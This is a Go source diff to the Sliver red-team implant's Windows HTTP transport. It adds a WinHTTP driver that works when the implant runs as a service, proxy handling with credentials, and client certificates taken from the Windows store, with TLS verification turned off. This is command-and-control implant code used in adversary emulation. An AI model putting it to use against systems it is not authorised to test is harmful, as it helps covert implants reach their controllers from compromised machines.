@@ -19,49 +19,118 @@ package httpclient
 */
 
 import (
+	"sync"
 
-	// {{if .Config.Debug}}
-	"log"
-	// {{end}}
-
+	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient/drivers/win/clientcert"
+	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient/drivers/win/winhttp"
 	"github.com/bishopfox/sliver/implant/sliver/transports/httpclient/drivers/win/wininet"
 )
 
 var (
 	wininetDriver = "wininet"
-)
-
-// GetHTTPDriver - Get an instance of the specified HTTP driver
-func GetHTTPDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, error) {
-	switch opts.Driver {
-
-	case goHTTPDriver:
-		// {{if .Config.Debug}}
-		log.Printf("Using go http driver")
-		// {{end}}
-		return GoHTTPDriver(origin, secure, opts)
+	winhttpDriver = "winhttp"
 
-	case wininetDriver:
-		// {{if .Config.Debug}}
-		log.Printf("Using wininet driver")
-		// {{end}}
-		return WininetDriver(origin, secure, opts)
+	// clientCertContexts - Certificate contexts by thumbprint ("" is the
+	// implant's own certificate), they're loaded once and never freed
+	clientCertContexts   = map[string][]byte{}
+	clientCertContextsMu sync.Mutex
+)
 
-	default:
-		// {{if .Config.Debug}}
-		log.Printf("WARNING: unknown HTTP driver: %s", opts.Driver)
-		// {{end}}
-		return GoHTTPDriver(origin, secure, opts)
-	}
+func init() {
+	httpDrivers[wininetDriver] = WininetDriver
+	httpDrivers[winhttpDriver] = WinhttpDriver
 }
 
 // WininetDriver - Initialize a Wininet driver (Windows only)
 func WininetDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, error) {
-	wininetClient, err := wininet.NewClient(userAgent)
+	proxy, proxyUsername, proxyPassword := explicitProxy(opts)
+	// WinINet only discovers proxies (WPAD/PAC) if enabled in the user's Internet Options
+	accessType := wininet.InternetOpenTypePreconfig
+	switch opts.ProxyMode {
+	case proxyModeManual:
+		accessType = wininet.InternetOpenTypePreconfigWithNoAutoproxy
+	case proxyModeNone:
+		accessType = wininet.InternetOpenTypeDirect
+	}
+	var wininetClient *wininet.Client
+	var err error
+	if proxy != "" {
+		wininetClient, err = wininet.NewClientWithProxy(userAgent, proxy)
+	} else {
+		wininetClient, err = wininet.NewClientWithAccessType(userAgent, accessType)
+	}
 	if err != nil {
 		return nil, err
 	}
 	wininetClient.TLSClientConfig.InsecureSkipVerify = true
 	wininetClient.AskProxyCreds = opts.AskProxyCreds
+	wininetClient.ProxyUsername = proxyUsername
+	wininetClient.ProxyPassword = proxyPassword
+	if wininetClient.ClientCertContext, err = clientCertContext(opts); err != nil {
+		return nil, err
+	}
 	return wininetClient, nil
 }
+
+// WinhttpDriver - Initialize a WinHTTP driver (Windows only), unlike WinINet
+// it's supported when the implant runs as a service
+func WinhttpDriver(origin string, secure bool, opts *HTTPOptions) (HTTPDriver, error) {
+	proxy, proxyUsername, proxyPassword := explicitProxy(opts)
+	accessType := winhttp.WinhttpAccessTypeAutomaticProxy
+	switch opts.ProxyMode {
+	case proxyModeManual:
+		accessType = winhttp.WinhttpAccessTypeDefaultProxy
+	case proxyModeNone:
+		accessType = winhttp.WinhttpAccessTypeNoProxy
+	}
+	var winhttpClient *winhttp.Client
+	var err error
+	if proxy != "" {
+		winhttpClient, err = winhttp.NewClientWithProxy(userAgent, proxy)
+	} else {
+		winhttpClient, err = winhttp.NewClientWithAccessType(userAgent, accessType)
+	}
+	if err != nil {
+		return nil, err
+	}
+	winhttpClient.TLSClientConfig.InsecureSkipVerify = true
+	winhttpClient.Timeout = opts.NetTimeout
+	winhttpClient.ProxyUsername = proxyUsername
+	winhttpClient.ProxyPassword = proxyPassword
+	if winhttpClient.ClientCertContext, err = clientCertContext(opts); err != nil {
+		return nil, err
+	}
+	return winhttpClient, nil
+}
+
+// clientCertContext - The certificate the native drivers present to https c2s,
+// from the certificate store if the c2 names one, else the implant's own
+func clientCertContext(opts *HTTPOptions) ([]byte, error) {
+	thumbprint := opts.ClientCertThumbprint
+	certPEM, keyPEM := clientCertificate()
+	if thumbprint == "" && certPEM == "" {
+		return nil, nil
+	}
+
+	clientCertContextsMu.Lock()
+	defer clientCertContextsMu.Unlock()
+	if certContext, ok := clientCertContexts[thumbprint]; ok {
+		return certContext, nil
+	}
+	var certContext []byte
+	if thumbprint != "" {
+		ctx, err := clientcert.FromStore(thumbprint)
+		if err != nil {
+			return nil, err
+		}
+		certContext = clientcert.OptionValue(ctx)
+	} else {
+		ctx, err := clientcert.FromPEM(certPEM, keyPEM)
+		if err != nil {
+			return nil, err
+		}
+		certContext = clientcert.OptionValue(ctx)
+	}
+	clientCertContexts[thumbprint] = certContext
+	return certContext, nil
+}